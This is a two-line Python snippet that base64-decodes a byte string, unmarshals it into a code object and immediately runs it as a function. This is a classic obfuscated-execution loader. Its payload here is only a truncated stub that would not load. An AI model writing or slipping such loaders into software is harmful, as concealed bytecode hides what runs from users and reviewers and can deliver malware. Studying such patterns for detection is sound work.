import marshal, types, base64
types.FunctionType(marshal.loads(base64.b64decode(b"YwAA")), globals())()
